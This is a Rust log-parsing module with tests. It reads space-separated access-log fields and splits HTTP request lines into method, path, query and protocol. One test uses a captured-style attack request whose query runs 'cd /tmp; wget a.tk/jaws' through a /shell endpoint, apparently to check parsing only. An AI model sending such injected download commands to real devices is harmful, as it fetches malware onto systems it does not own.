//! A cursor over one log line for the space-separated formats: bare words, `"quoted"` fields
//! (backslash escapes skipped, not decoded) and `[bracketed]` fields. Borrowing only.

use memchr::{memchr, memchr2};

/// Reads fields left to right; every method returns `None` when the field is not there, leaving
/// the cursor where it was.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Cursor<'a> {
    line: &'a str,
    pos: usize,
}

impl<'a> Cursor<'a> {
    pub(crate) fn new(line: &'a str) -> Self {
        Self { line, pos: 0 }
    }

    /// What is left, unread.
    pub(crate) fn rest(&self) -> &'a str {
        &self.line[self.pos..]
    }

    /// Whether everything has been read.
    pub(crate) fn is_done(&self) -> bool {
        self.pos >= self.line.len()
    }

    /// Skips spaces.
    pub(crate) fn skip_spaces(&mut self) {
        let bytes = self.line.as_bytes();
        while self.pos < bytes.len() && bytes[self.pos] == b' ' {
            self.pos += 1;
        }
    }

    /// A run of non-space bytes, then the spaces after it.
    pub(crate) fn word(&mut self) -> Option<&'a str> {
        let rest = &self.line.as_bytes()[self.pos..];
        if rest.is_empty() || rest[0] == b' ' {
            return None;
        }
        let len = memchr(b' ', rest).unwrap_or(rest.len());
        let word = &self.line[self.pos..self.pos + len];
        self.pos += len;
        self.skip_spaces();
        Some(word)
    }

    /// A `"..."` field's content (escapes left as logged), then the spaces after it. A backslash
    /// escapes the next byte, so `\"` does not end the field.
    pub(crate) fn quoted(&mut self) -> Option<&'a str> {
        let bytes = self.line.as_bytes();
        if bytes.get(self.pos) != Some(&b'"') {
            return None;
        }
        let start = self.pos + 1;
        let mut at = start;
        loop {
            let found = memchr2(b'"', b'\\', &bytes[at..])?;
            let index = at + found;
            if bytes[index] == b'\\' {
                at = index + 2;
                if at > bytes.len() {
                    return None;
                }
                continue;
            }
            let content = &self.line[start..index];
            self.pos = index + 1;
            self.skip_spaces();
            return Some(content);
        }
    }

    /// A `[...]` field's content (no nesting; `]` ends it), then the spaces after it.
    pub(crate) fn bracketed(&mut self) -> Option<&'a str> {
        let bytes = self.line.as_bytes();
        if bytes.get(self.pos) != Some(&b'[') {
            return None;
        }
        let start = self.pos + 1;
        let end = start + memchr(b']', &bytes[start..])?;
        self.pos = end + 1;
        self.skip_spaces();
        Some(&self.line[start..end])
    }

    /// A literal, then the spaces after it.
    pub(crate) fn literal(&mut self, text: &str) -> Option<()> {
        if self.rest().starts_with(text) {
            self.pos += text.len();
            self.skip_spaces();
            Some(())
        } else {
            None
        }
    }
}

/// `None` for the "not set" spellings (`-`, empty), the text otherwise.
pub(crate) fn unset_to_none(text: &str) -> Option<&str> {
    match text {
        "" | "-" => None,
        other => Some(other),
    }
}

/// Splits a request line `METHOD TARGET PROTO` into method, path, query and protocol. The target
/// may contain spaces (ALB logs it unescaped), so the method is the first word and the protocol
/// the last, when it looks like one. Absolute targets (`http://host/x`, proxy requests) keep their
/// scheme and host in the path; callers that want the host take it with [`split_absolute`].
pub(crate) fn split_request(request: &str) -> RequestLine<'_> {
    let mut line = RequestLine::default();
    if request.is_empty() || request == "-" {
        return line;
    }
    let (method, rest) = match request.split_once(' ') {
        Some((method, rest)) => (method, rest),
        None => {
            line.method = Some(request);
            return line;
        }
    };
    line.method = unset_to_none(method);
    let (target, protocol) = match rest.rsplit_once(' ') {
        Some((target, protocol))
            if protocol.starts_with("HTTP/") || protocol.starts_with("http/") =>
        {
            (target, Some(protocol))
        }
        _ => (rest, None),
    };
    line.protocol = protocol;
    match target.split_once('?') {
        Some((path, query)) => {
            line.path = unset_to_none(path);
            line.query = Some(query);
        }
        None => line.path = unset_to_none(target),
    }
    line
}

/// The parts of a request line.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub(crate) struct RequestLine<'a> {
    pub(crate) method: Option<&'a str>,
    pub(crate) path: Option<&'a str>,
    pub(crate) query: Option<&'a str>,
    pub(crate) protocol: Option<&'a str>,
}

/// `http://host:port/path` into (`host` without port, `/path`); `None` if not absolute.
pub(crate) fn split_absolute(target: &str) -> Option<(&str, &str)> {
    let rest = target
        .strip_prefix("http://")
        .or_else(|| target.strip_prefix("https://"))
        .or_else(|| target.strip_prefix("HTTP://"))
        .or_else(|| target.strip_prefix("HTTPS://"))?;
    let (authority, path) = match memchr(b'/', rest.as_bytes()) {
        Some(index) => (&rest[..index], &rest[index..]),
        None => (rest, "/"),
    };
    Some((strip_port(authority), path))
}

/// `host:port` → `host`; `[v6]:port` → `v6`; a bare IPv6 address is left whole.
pub(crate) fn strip_port(authority: &str) -> &str {
    if let Some(rest) = authority.strip_prefix('[') {
        return rest.split_once(']').map_or(rest, |(host, _)| host);
    }
    match authority.rsplit_once(':') {
        Some((host, port)) if !host.contains(':') && port.bytes().all(|b| b.is_ascii_digit()) => {
            host
        }
        _ => authority,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cursor_reads_words_quotes_and_brackets() {
        let mut cursor =
            Cursor::new(r#"1.2.3.4 - [07/Feb/2020:11:48:51 +0000] "GET / HTTP/1.1" "a \"b\"" end"#);
        assert_eq!(cursor.word(), Some("1.2.3.4"));
        assert_eq!(cursor.word(), Some("-"));
        assert_eq!(cursor.bracketed(), Some("07/Feb/2020:11:48:51 +0000"));
        assert_eq!(cursor.quoted(), Some("GET / HTTP/1.1"));
        assert_eq!(cursor.quoted(), Some(r#"a \"b\""#));
        assert_eq!(cursor.word(), Some("end"));
        assert!(cursor.is_done());
    }

    #[test]
    fn an_unterminated_quote_is_none() {
        assert_eq!(Cursor::new(r#""GET / HTTP/1.1"#).quoted(), None);
        assert_eq!(Cursor::new(r#""GET \"#).quoted(), None);
    }

    #[test]
    fn request_line_with_spaces_in_the_target() {
        let line = split_request("GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.tk/jaws HTTP/1.1");
        assert_eq!(line.method, Some("GET"));
        assert_eq!(line.path, Some("http://127.0.0.1:80/shell"));
        assert_eq!(line.query, Some("cd+/tmp;wget+ a.tk/jaws"));
        assert_eq!(line.protocol, Some("HTTP/1.1"));
        assert_eq!(
            split_absolute("http://127.0.0.1:80/shell"),
            Some(("127.0.0.1", "/shell"))
        );
    }

    #[test]
    fn junk_request_lines_keep_what_they_have() {
        assert_eq!(split_request("hello").method, Some("hello"));
        assert_eq!(split_request("-"), RequestLine::default());
        assert_eq!(
            split_request("PATCHp /products/42 HTTP/1.1").method,
            Some("PATCHp")
        );
    }

    #[test]
    fn ports_are_stripped_from_hosts() {
        assert_eq!(strip_port("example.com:8080"), "example.com");
        assert_eq!(strip_port("[2001:db8::1]:443"), "2001:db8::1");
        assert_eq!(strip_port("2001:db8::1"), "2001:db8::1");
        assert_eq!(strip_port("example.com"), "example.com");
    }
}
